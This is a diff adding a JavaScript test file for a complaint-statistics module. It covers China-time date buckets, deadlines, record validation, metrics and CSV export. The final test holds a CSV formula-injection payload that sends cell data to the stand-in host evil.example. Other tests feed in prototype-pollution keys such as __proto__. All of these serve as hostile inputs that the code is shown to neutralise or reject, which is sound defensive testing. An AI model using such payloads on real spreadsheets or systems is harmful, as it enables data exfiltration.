@@ -1,0 +1,178 @@
+// core/stats.js: China-time buckets, deadlines, record checks, metrics and CSV, table-driven.
+"use strict";
+const test = require("node:test");
+const assert = require("node:assert/strict");
+const S = require("../../docs/assets/javascripts/core/stats.js");
+
+const NOW = Date.parse("2026-11-29T12:00:00Z");
+const CTX = {
+  now: NOW,
+  casePattern: "^20[0-9]{2}[0-9]{3,6}$",
+  practicePattern: "^LX20[0-9]{2}[0-9]{3}$",
+  severities: { minor: { rank: 1, resolveHours: 72 }, general: { rank: 2, resolveHours: 168 }, serious: { rank: 3, resolveHours: 72 } },
+  categories: { "product-quality": "商品质量", food: "食品" },
+  sources: { online: "网络", phone: "电话" },
+};
+const LOOSE = { ...CTX, casePattern: null };
+
+function run(over) {
+  return {
+    format: "pb-run", schema: 1, procedure: { id: "intake", title: "投诉接收与登记", version: "1.0.0" },
+    case: "2026001", severity: "general", category: "food", source: "online",
+    startedAt: "2026-10-01T02:00:00.000Z", closedAt: "2026-10-02T02:00:00.000Z",
+    outcome: { resolved: true, satisfaction: 4, compensation: 50, improvements: 1 },
+    steps: [{ id: "a", text: "登记", due: "PT30M", dueFrom: null }, { id: "b", text: "回执", due: "PT2H", dueFrom: "a" }],
+    state: { a: { status: "done", at: "2026-10-01T02:20:00.000Z" }, b: { status: "done", at: "2026-10-01T05:00:00.000Z" } },
+    ...over,
+  };
+}
+const rec = (over, ctx = CTX) => S.fromRunFile(run(over), ctx);
+
+test("months, weeks and days are China time, whatever the zone of the instant", () => {
+  const rows = [
+    // [instant, month, ISO week, day]
+    ["2026-03-31T16:30:00Z", "2026-04", "2026-W14", "2026-04-01"], // 00:30 on 1 April in Beijing
+    ["2026-04-01T07:30:00+08:00", "2026-04", "2026-W14", "2026-04-01"],
+    ["2026-03-31T15:59:59Z", "2026-03", "2026-W14", "2026-03-31"],
+    ["2026-11-22T16:00:00Z", "2026-11", "2026-W48", "2026-11-23"], // Monday 00:00 Beijing starts a week
+    ["2026-11-22T15:59:00Z", "2026-11", "2026-W47", "2026-11-22"],
+    ["2020-12-31T16:00:00Z", "2021-01", "2020-W53", "2021-01-01"], // ISO week of the previous year
+    ["2026-12-28T00:00:00+08:00", "2026-12", "2026-W53", "2026-12-28"],
+  ];
+  for (const [iso, month, week, day] of rows) {
+    const ms = Date.parse(iso);
+    assert.equal(S.monthOf(ms), month, iso);
+    assert.equal(S.weekOf(ms), week, iso);
+    assert.equal(S.dayOf(ms), day, iso);
+  }
+});
+
+test("week keys read as calendar dates", () => {
+  for (const [key, label] of [["2026-W48", "11月23日–29日"], ["2026-W44", "10月26日–11月1日"], ["2020-W53", "12月28日–1月3日"]]) {
+    assert.equal(S.weekLabel(key), label);
+  }
+});
+
+test("deadlines: elapsed hours, China calendar days, months clamped to the month's end", () => {
+  const rows = [
+    ["2026-10-01T02:00:00Z", "PT30M", "2026-10-01T02:30:00.000Z"],
+    ["2026-10-01T02:00:00Z", "P1DT2H", "2026-10-02T04:00:00.000Z"],
+    ["2026-08-30T16:00:00Z", "P6M", "2027-02-27T16:00:00.000Z"], // Aug 31 Beijing + 6 months = Feb 28
+    ["2028-02-28T16:00:00Z", "P1Y", "2029-02-27T16:00:00.000Z"], // Feb 29 + 1 year = Feb 28
+    ["2026-01-30T16:00:00Z", "P1M", "2026-02-27T16:00:00.000Z"], // Jan 31 + 1 month = Feb 28
+    ["2026-10-01T02:00:00Z", "P2W", "2026-10-15T02:00:00.000Z"],
+    ["2026-10-01T02:00:00Z", "nonsense", null],
+  ];
+  for (const [from, dur, want] of rows) {
+    const got = S.addDuration(Date.parse(from), dur);
+    assert.equal(got === null ? null : new Date(got).toISOString(), want, from + " + " + dur);
+  }
+});
+
+test("impossible times and wrong types are rejected with what is wrong", () => {
+  const rows = [
+    // [change, words the reason must contain]
+    [{ startedAt: "1" }, "startedAt 不是带时区的时间"],
+    [{ startedAt: 0 }, "startedAt 不是带时区的时间"],
+    [{ startedAt: "2026-10-01T02:00:00" }, "startedAt 不是带时区的时间"],
+    [{ startedAt: "1970-01-01T00:00:00Z" }, "早于 2000 年"],
+    [{ startedAt: "2099-01-01T00:00:00Z", closedAt: null }, "在未来"],
+    [{ closedAt: "not a date" }, "closedAt 不是带时区的时间"],
+    [{ closedAt: "2026-09-01T00:00:00Z" }, "closedAt 早于 startedAt"],
+    [{ outcome: { resolved: "no" } }, "outcome.resolved"],
+    [{ outcome: { satisfaction: "5" } }, "outcome.satisfaction 应为数字"],
+    [{ outcome: { compensation: "100" } }, "outcome.compensation 应为数字"],
+    [{ outcome: { improvements: "2" } }, "outcome.improvements 应为数字"],
+    [{ outcome: { satisfaction: 500 } }, "超出范围"],
+    [{ outcome: { compensation: -1e9 } }, "超出范围"],
+    [{ outcome: { improvements: 1e6 } }, "超出范围"],
+    [{ outcome: { satisfaction: 4.5 } }, "超出范围"],
+    [{ severity: "catastrophic" }, "severity 不是已定义的值"],
+    [{ category: "constructor" }, "category 不是已定义的值"],
+    [{ source: "__proto__" }, "source 不是已定义的值"],
+    [{ case: "__proto__" }, "投诉编号不符合编号规则"],
+    [{ case: 2026001 }, "缺少投诉编号"],
+    [{ schema: 2 }, "记录格式版本 2"],
+    [{ format: "x" }, "不是检查单记录"],
+    [{ steps: "x" }, "steps 不是列表"],
+    [{ state: null }, "缺少 state"],
+    [{ state: { a: { status: "done", at: "yesterday" } } }, "步骤 a 的时间"],
+    [{ state: { a: { status: "maybe", at: "2026-10-01T02:20:00Z" } } }, "步骤 a 的状态"],
+  ];
+  for (const [change, words] of rows) {
+    const got = rec(change);
+    assert.equal(typeof got, "string", JSON.stringify(change));
+    assert.ok(got.includes(words), JSON.stringify(change) + " → " + got);
+  }
+  assert.equal(typeof rec({}), "object");
+  assert.equal(typeof S.fromRunFile([1, 2, 3], CTX), "string");
+  assert.equal(typeof S.fromRunFile(null, CTX), "string");
+});
+
+test("case numbers such as __proto__ are ordinary keys: every record still counts", () => {
+  const records = ["__proto__", "constructor", "toString", "2026001"].map((c, i) =>
+    rec({ case: c, startedAt: `2026-10-0${i + 1}T02:00:00.000Z`, closedAt: null }, LOOSE));
+  const s = S.compute(records, CTX);
+  assert.equal(s.cases, 4);
+  assert.equal(s.byCategory.food, 4);
+  assert.equal(({}).runs, undefined);
+  assert.equal(Object.prototype.toString.call({}), "[object Object]");
+});
+
+test("collect names each bad file, keeps the newer duplicate and leaves out practice runs", () => {
+  const files = [
+    { name: "good.json", text: JSON.stringify([run({}), run({ case: "2026002" })]) },
+    { name: "newer.json", text: JSON.stringify(run({ closedAt: "2026-10-03T02:00:00.000Z" })) },
+    { name: "broken.json", text: "{oops" },
+    { name: "bad-time.json", text: JSON.stringify(run({ closedAt: "2026-01-01T00:00:00Z" })) },
+    { name: "practice.json", text: JSON.stringify(run({ case: "LX2026001" })) },
+    { name: "bom.json", text: "\ufeff" + JSON.stringify(run({ case: "2026003" })) },
+  ];
+  const got = S.collect(files, CTX);
+  assert.equal(got.records.length, 3);
+  assert.equal(got.practice, 1);
+  assert.ok(got.problems.some((p) => p.startsWith("broken.json：不是有效的 JSON")));
+  assert.ok(got.problems.some((p) => p.startsWith("bad-time.json：closedAt 早于 startedAt")));
+  assert.ok(got.problems.some((p) => p.startsWith("good.json 第 1 条") && p.includes("采用较新的 newer.json")));
+  const kept = got.records.find((r) => r.case === "2026001");
+  assert.equal(new Date(kept.close).toISOString(), "2026-10-03T02:00:00.000Z");
+});
+
+test("metrics: boundaries, highest severity, open cases with satisfaction, stage means and overdue order", () => {
+  const records = [
+    // Case 1: closed exactly at its general limit (168 h) → on time; a later run lowers severity → highest kept.
+    rec({ case: "2026001", closedAt: "2026-10-08T02:00:00.000Z", outcome: { resolved: true, satisfaction: null, compensation: 0, improvements: 0 } }),
+    rec({ case: "2026001", procedure: { id: "classify", title: "分类", version: "1.0.0" }, severity: "minor",
+      startedAt: "2026-10-02T02:00:00.000Z", closedAt: "2026-10-03T02:00:00.000Z", outcome: null, state: {} }),
+    // Case 2: open, with a satisfaction score (counts for satisfaction, not for closed figures).
+    rec({ case: "2026002", severity: "serious", closedAt: null, outcome: { resolved: null, satisfaction: 2, compensation: 100.5, improvements: 2 } }),
+    // Case 3: closed one minute past the general limit; step a late (31 min), b late (from a's completion).
+    rec({ case: "2026003", startedAt: "2026-10-05T02:00:00.000Z", closedAt: "2026-10-12T02:01:00.000Z",
+      state: { a: { status: "done", at: "2026-10-05T02:31:00.000Z" }, b: { status: "done", at: "2026-10-05T04:32:00.000Z" } },
+      outcome: { resolved: false, satisfaction: 5, compensation: null, improvements: null } }),
+  ];
+  const s = S.compute(records, CTX);
+  assert.deepEqual(
+    { cases: s.cases, closed: s.closed, bySeverity: s.bySeverity, onTimeRate: s.onTimeRate, satisfaction: s.satisfaction,
+      resolutionRate: s.resolutionRate, compensationCases: s.compensationCases, compensationTotal: s.compensationTotal, improvements: s.improvements },
+    { cases: 3, closed: 2, bySeverity: { general: 2, serious: 1 }, onTimeRate: 50, satisfaction: 3.5,
+      resolutionRate: 50, compensationCases: 1, compensationTotal: 100.5, improvements: 2 });
+  // Case 1 took exactly its 168 h (on time), case 3 one minute more (late).
+  assert.deepEqual(s.stage.intake, { title: "投诉接收与登记", n: 2, hours: 336.017, mean: 168, meanDays: 7 });
+  assert.deepEqual(s.stage.classify, { title: "分类", n: 1, hours: 24, mean: 24, meanDays: 1 });
+  assert.equal(s.handlingHours, 168);
+  assert.equal(s.handlingDays, 7);
+  assert.deepEqual(s.overdue.map((o) => [o.step, o.count]), [["回执", 3], ["登记", 1]]);
+  assert.equal(s.overdueTotal, 4);
+  assert.deepEqual(s.byWeek, { "2026-W40": 2, "2026-W41": 1 });
+});
+
+test("CSV cells that a spreadsheet would run are neutralised", () => {
+  const rows = [
+    ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\""],
+    ["+1", "\"'+1\""], ["-2", "\"'-2\""], ["@SUM(A1)", "\"'@SUM(A1)\""], ["\tx", "\"'\tx\""],
+    ["普通", "\"普通\""], [12, "\"12\""], [null, "\"\""],
+  ];
+  for (const [cell, want] of rows) assert.equal(S.csvCell(cell), want);
+  assert.equal(S.csv([["项目", "件数"], ["a", 1]]), "\ufeff\"项目\",\"件数\"\r\n\"a\",\"1\"\r\n");
+});
